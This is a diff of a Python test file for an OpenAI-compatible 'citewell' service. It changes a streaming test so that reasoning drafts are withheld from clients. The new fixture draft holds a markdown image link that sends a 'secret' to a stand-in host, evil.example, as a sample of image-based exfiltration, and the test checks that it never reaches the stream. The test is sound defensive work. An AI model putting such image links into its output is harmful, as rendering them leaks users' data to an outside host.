@@ -114,9 +114,9 @@ def test_a_stream_is_the_same_answer(ann: openai.OpenAI) -> None:
     assert message.model_dump()["citewell"] == whole.model_dump()["citewell"]
 
 
-def test_a_draft_comes_beside_the_content(ann: openai.OpenAI, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_no_draft_is_sent_to_a_client_that_may_draw_it(ann: openai.OpenAI, monkeypatch: pytest.MonkeyPatch) -> None:
     def scripted_drafts(service: Service, question: Question, tell: Tell) -> Answer:
-        for piece in ("Perhaps ", "100 days."):
+        for piece in ("Perhaps ![x](https://evil.example/?q=secret) ", "100 days."):
             tell("draft", {"text": piece})
         return made(service, question, tell)
 
@@ -126,7 +126,8 @@ def test_a_draft_comes_beside_the_content(ann: openai.OpenAI, monkeypatch: pytes
         for chunk in ann.chat.completions.create(model="citewell", messages=ASKED, stream=True)
     ]
     assert "".join(delta.get("content") or "" for delta in deltas) == f"{RULE} [1]"
-    assert "".join(delta.get("reasoning_content") or "" for delta in deltas) == "Perhaps 100 days."
+    assert "evil" not in str(deltas)
+    assert "100 days" not in str(deltas)
 
 
 def test_an_error_in_a_stream_is_the_clients_error(
@@ -199,3 +200,11 @@ def test_the_examples_are_what_the_schema_says() -> None:
     schemas.EmbeddingList.model_validate(examples.EMBEDDINGS)
     schemas.Ranking.model_validate(examples.RANKING)
     schemas.ModelList.model_validate(models_shape())
+
+
+def test_one_model_is_there_and_no_other(ann: openai.OpenAI) -> None:
+    assert ann.models.retrieve("citewell").id == "citewell"
+    with pytest.raises(openai.NotFoundError) as refused:
+        ann.models.retrieve("gpt-4o")
+    assert isinstance(refused.value.body, dict)
+    assert refused.value.body["code"] == "UnknownId"
